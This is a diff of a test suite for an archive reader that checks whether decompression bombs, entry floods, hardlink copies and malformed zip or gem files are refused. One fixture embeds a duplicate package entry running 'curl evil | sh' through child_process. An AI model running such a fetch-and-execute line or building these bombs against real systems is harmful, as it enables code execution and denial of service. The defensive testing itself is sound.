@@ -15,7 +15,20 @@ import { readTar, readTarGz } from '../../src/archive/index.js';
 import { DEFAULT_LIMITS, RATIO_FLOOR } from '../../src/limits/index.js';
 import { isEarchive, isElimit } from '../archive/make-tar.js';
 import { buildGem, HELLO } from '../builder/rubygems/make-gem.js';
-import { declareSize, gemWithData, GiB, MiB, packageJson, TAR_END, tarFile, ustarHeader, writeGzip, writePlain, writeZip, zeroMembers } from '../helpers/bombs.js';
+import {
+  declareSize,
+  gemWithData,
+  GiB,
+  MiB,
+  packageJson,
+  TAR_END,
+  tarFile,
+  ustarHeader,
+  writeGzip,
+  writePlain,
+  writeZip,
+  zeroMembers,
+} from '../helpers/bombs.js';
 import { tempDir } from '../helpers/cli.js';
 import { readInChild, type ChildRead } from '../helpers/read-in-child.js';
 
@@ -64,13 +77,19 @@ describe('archive bombs', () => {
     await assert.rejects(childError(r), isElimit('zeros.tgz', 'ratio'));
     assertPeak(ctx, r, STREAMED);
     // With the ratio lifted, unpacked_size stops the same stream (lowered here, to keep the test short).
-    const lifted = await readInChild('tgz', file('zeros.tgz'), 'zeros.tgz', { ...DEFAULT_LIMITS, ratio: 1_000_000, unpackedSize: 512 * MiB });
+    const lifted = await readInChild('tgz', file('zeros.tgz'), 'zeros.tgz', {
+      ...DEFAULT_LIMITS,
+      ratio: 1_000_000,
+      unpackedSize: 512 * MiB,
+    });
     await assert.rejects(childError(lifted), isElimit('zeros.tgz', 'unpacked_size', ['unpacks to more than 512 MiB']));
     assertPeak(ctx, lifted, STREAMED);
   });
 
   test('one 2 GiB file is refused at its header, before a byte of it is inflated', async (ctx) => {
-    const head = gzipSync(Buffer.concat([...tarFile('package/package.json', packageJson('fx-huge')), ustarHeader('package/huge.bin', 2 * GiB)]));
+    const head = gzipSync(
+      Buffer.concat([...tarFile('package/package.json', packageJson('fx-huge')), ustarHeader('package/huge.bin', 2 * GiB)]),
+    );
     await writeFile(file('huge.tgz'), Buffer.concat([head, ...zeroMembers(2 * GiB)]));
     const r = await readInChild('tgz', file('huge.tgz'), 'huge.tgz');
     await assert.rejects(childError(r), isElimit('huge.tgz', 'file_size', ['entry "package/huge.bin" unpacks to 2 GiB, more than 1 GiB']));
@@ -83,7 +102,13 @@ describe('archive bombs', () => {
     const tail = gzipSync(Buffer.concat([Buffer.alloc(511), TAR_END]));
     await writeFile(file('big.tgz'), Buffer.concat([head, ...zeroMembers(over), tail]));
     const r = await readInChild('tgz', file('big.tgz'), 'big.tgz');
-    await assert.rejects(childError(r), isElimit('big.tgz', 'file_size', [`entry "package/big.bin" unpacks to ${over} bytes (1.0 GiB), more than 1 GiB`, 'file_size = "2GiB"']));
+    await assert.rejects(
+      childError(r),
+      isElimit('big.tgz', 'file_size', [
+        `entry "package/big.bin" unpacks to ${over} bytes (1.0 GiB), more than 1 GiB`,
+        'file_size = "2GiB"',
+      ]),
+    );
     assertPeak(ctx, r, STREAMED);
   });
 
@@ -100,7 +125,10 @@ describe('archive bombs', () => {
       yield TAR_END;
     };
     await writeGzip(file('flood.tgz'), flood(), 1);
-    await assert.rejects(readTarGz(await readFile(file('flood.tgz')), { source: 'flood.tgz', stripComponents: 1 }), isElimit('flood.tgz', 'files', ['holds more than 250000 entries']));
+    await assert.rejects(
+      readTarGz(await readFile(file('flood.tgz')), { source: 'flood.tgz', stripComponents: 1 }),
+      isElimit('flood.tgz', 'files', ['holds more than 250000 entries']),
+    );
   });
 
   test('hardlinks to one file unpack to as many copies', async () => {
@@ -112,21 +140,33 @@ describe('archive bombs', () => {
     chunks.push(TAR_END);
     const size = await writePlain(file('links.tar'), chunks);
     assert.ok(size < 3 * MiB);
-    await assert.rejects(readTar(await readFile(file('links.tar')), { source: 'links.tar', stripComponents: 1 }), isElimit('links.tar', 'ratio'));
     await assert.rejects(
-      readTar(await readFile(file('links.tar')), { source: 'links.tar', stripComponents: 1, limits: { ...DEFAULT_LIMITS, ratio: 1_000_000 } }),
+      readTar(await readFile(file('links.tar')), { source: 'links.tar', stripComponents: 1 }),
+      isElimit('links.tar', 'ratio'),
+    );
+    await assert.rejects(
+      readTar(await readFile(file('links.tar')), {
+        source: 'links.tar',
+        stripComponents: 1,
+        limits: { ...DEFAULT_LIMITS, ratio: 1_000_000 },
+      }),
       isElimit('links.tar', 'unpacked_size'),
     );
   });
 
   test('the same path twice with different contents: readers would disagree on the tree', async () => {
-    const tgz = gzipSync(Buffer.concat([
-      ...tarFile('package/package.json', packageJson('fx-twice')),
-      ...tarFile('package/index.js', Buffer.from("module.exports = 'what a reviewer reads';\n")),
-      ...tarFile('package/index.js', Buffer.from("require('child_process').exec('curl evil | sh');\n")),
-      TAR_END,
-    ]));
-    await assert.rejects(readTarGz(tgz, { source: 'twice.tgz', stripComponents: 1 }), isEarchive('twice.tgz', ['entry "package/index.js"', 'a second entry named "index.js"', 'ambiguous']));
+    const tgz = gzipSync(
+      Buffer.concat([
+        ...tarFile('package/package.json', packageJson('fx-twice')),
+        ...tarFile('package/index.js', Buffer.from("module.exports = 'what a reviewer reads';\n")),
+        ...tarFile('package/index.js', Buffer.from("require('child_process').exec('curl evil | sh');\n")),
+        TAR_END,
+      ]),
+    );
+    await assert.rejects(
+      readTarGz(tgz, { source: 'twice.tgz', stripComponents: 1 }),
+      isEarchive('twice.tgz', ['entry "package/index.js"', 'a second entry named "index.js"', 'ambiguous']),
+    );
   });
 
   test('a zip bomb wheel (300 MB from 300 KB) is refused from its directory, before inflating', async (ctx) => {
@@ -145,11 +185,14 @@ describe('archive bombs', () => {
     const zip = declareSize(await readFile(file('bomb-1.0-py3-none-any.whl')), 'bomb/zeros.bin', MiB);
     await writeFile(file('liar.whl'), zip);
     const r = await readInChild('zip', file('liar.whl'), 'liar.whl');
-    await assert.rejects(childError(r), isEarchive('liar.whl', ['entry "bomb/zeros.bin"', `inflates past the ${MiB} bytes the directory declares`]));
+    await assert.rejects(
+      childError(r),
+      isEarchive('liar.whl', ['entry "bomb/zeros.bin"', `inflates past the ${MiB} bytes the directory declares`]),
+    );
     assertPeak(ctx, r, STREAMED);
   });
 
-  test('a bomb in a .gem\'s data.tar.gz counts against the gem', async (ctx) => {
+  test("a bomb in a .gem's data.tar.gz counts against the gem", async (ctx) => {
     const data = Buffer.concat([gzipSync(Buffer.concat([ustarHeader('lib/huge.bin', 2 * GiB)])), ...zeroMembers(2 * GiB)]);
     await writeFile(file('bomb-1.0.0.gem'), await gemWithData(await buildGem(HELLO), data));
     const r = await readInChild('gem', file('bomb-1.0.0.gem'), 'bomb-1.0.0.gem');
@@ -161,7 +204,10 @@ describe('archive bombs', () => {
     const root = file('deb-root');
     await mkdir(path.join(root, 'DEBIAN'), { recursive: true });
     await mkdir(path.join(root, 'usr/share/bomb'), { recursive: true });
-    await writeFile(path.join(root, 'DEBIAN/control'), 'Package: bomb\nVersion: 1.0-1\nArchitecture: all\nMaintainer: bale tests <bale@example.invalid>\nDescription: zeros\n');
+    await writeFile(
+      path.join(root, 'DEBIAN/control'),
+      'Package: bomb\nVersion: 1.0-1\nArchitecture: all\nMaintainer: bale tests <bale@example.invalid>\nDescription: zeros\n',
+    );
     await writeFile(path.join(root, 'usr/share/bomb/zeros'), '');
     await truncate(path.join(root, 'usr/share/bomb/zeros'), 512 * MiB); // sparse: nothing written
     await execa('dpkg-deb', ['--root-owner-group', '-Zgzip', '-z9', '--build', root, file('bomb_1.0-1_all.deb')]);
